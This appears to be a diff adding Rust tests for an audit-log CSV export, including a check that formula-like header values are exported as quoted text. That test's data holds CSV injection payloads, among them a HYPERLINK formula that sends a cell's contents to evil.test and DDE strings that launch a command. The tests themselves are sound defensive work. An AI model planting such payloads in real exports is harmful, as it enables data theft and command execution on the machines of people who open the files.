@@ -183,3 +183,86 @@ async fn another_organizations_admin_exports_only_their_own_rows() {
     let filtered = rows_of(&csv_text(&app, &other, &format!("?actorId={}", trail.admin.id)).await, ',');
     assert!(filtered.is_empty(), "{filtered:?}");
 }
+
+#[tokio::test]
+async fn header_and_user_agent_values_that_look_like_formulas_are_exported_as_text() {
+    let app = spawn_app().await;
+    let admin = app.register("Acme", "admin@acme.test").await;
+    let formulas = [
+        ("=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
+        ("-1+1 from a patched agent", "@evil"),
+    ];
+    for (user_agent, request_id) in formulas {
+        let resp = app
+            .client
+            .post(app.url("/graphql"))
+            .header("user-agent", user_agent)
+            .header("x-request-id", request_id)
+            .json(&json!({"query": "mutation($i: LoginInput!) { login(input: $i) { accessToken } }",
+                "variables": {"i": {"email": "admin@acme.test", "password": "not the password 42"}}}))
+            .send()
+            .await
+            .expect("request sent");
+        assert_eq!(resp.status(), StatusCode::OK);
+    }
+    let rows = rows_of(&csv_text(&app, &admin, "?action=auth.login_failed").await, ',');
+    assert_eq!(rows.len(), formulas.len(), "{rows:?}");
+    for (user_agent, request_id) in formulas {
+        let row = rows.iter().find(|r| r[column("user_agent")].ends_with(&user_agent)).unwrap_or_else(|| panic!("{user_agent}: {rows:?}"));
+        assert_eq!(row[column("user_agent")], format!("'{user_agent}"), "the user agent cell");
+        assert_eq!(row[column("request_id")], format!("'{request_id}"), "the request id cell");
+    }
+}
+
+#[tokio::test]
+async fn an_export_longer_than_a_page_has_every_row_once() {
+    let app = spawn_app_with(&[("AUDIT_EXPORT_PAGE_ROWS", "2")]).await;
+    let admin = app.register("Acme", "admin@acme.test").await;
+    for i in 0..6 {
+        app.create_company(&admin, &format!("C{i}")).await;
+    }
+    let rows = rows_of(&csv_text(&app, &admin, "").await, ',');
+    let total = admin.ok("{ auditLogs { totalCount } }", json!({})).await["auditLogs"]["totalCount"].clone();
+    assert_eq!(json!(rows.len()), total, "one line per row: {rows:?}");
+    let mut codes: Vec<&str> = rows.iter().filter(|r| r[column("action")] == "company.create").map(|r| r[column("metadata")].as_str()).collect();
+    codes.dedup();
+    assert_eq!(codes.len(), 6, "{rows:?}");
+}
+
+#[tokio::test]
+async fn rows_written_while_an_export_streams_neither_repeat_nor_push_out_the_rows_it_started_with() {
+    use futures_util::StreamExt;
+    let app = spawn_app().await;
+    let admin = app.register("Acme", "admin@acme.test").await;
+    for i in 0..5 {
+        app.create_company(&admin, &format!("C{i}")).await;
+    }
+    let before = rows_of(&csv_text(&app, &admin, "").await, ',');
+
+    // The export's own page stream, two rows a page; rows are written between its pages.
+    let everyone = monassurance::principal::Principal {
+        user_id: uuid::Uuid::nil(),
+        org_id: uuid::Uuid::nil(),
+        role: monassurance::principal::Role::Superadmin,
+        session_id: None,
+        api_key: None,
+    };
+    let query = monassurance::audit::service::list(&everyone, None).expect("the audit query");
+    let mut pages = std::pin::pin!(monassurance::http::audit_csv::pages(app.state.db.clone(), query, 2, b','));
+    let mut text = String::from_utf8(pages.next().await.expect("a first page").expect("no error")).unwrap();
+    for i in 0..3 {
+        app.create_company(&admin, &format!("NEW{i}")).await;
+        let page = pages.next().await.expect("another page").expect("no error");
+        text.push_str(std::str::from_utf8(&page).unwrap());
+    }
+    while let Some(page) = pages.next().await {
+        text.push_str(std::str::from_utf8(&page.expect("no error")).unwrap());
+    }
+    let streamed = parse_csv(&text, ',');
+    let mut seen = std::collections::HashSet::new();
+    for row in &streamed {
+        assert!(seen.insert(row.clone()), "a row exported twice: {row:?}");
+    }
+    assert_eq!(streamed, before, "the rows the export started with, each once, in order");
+}
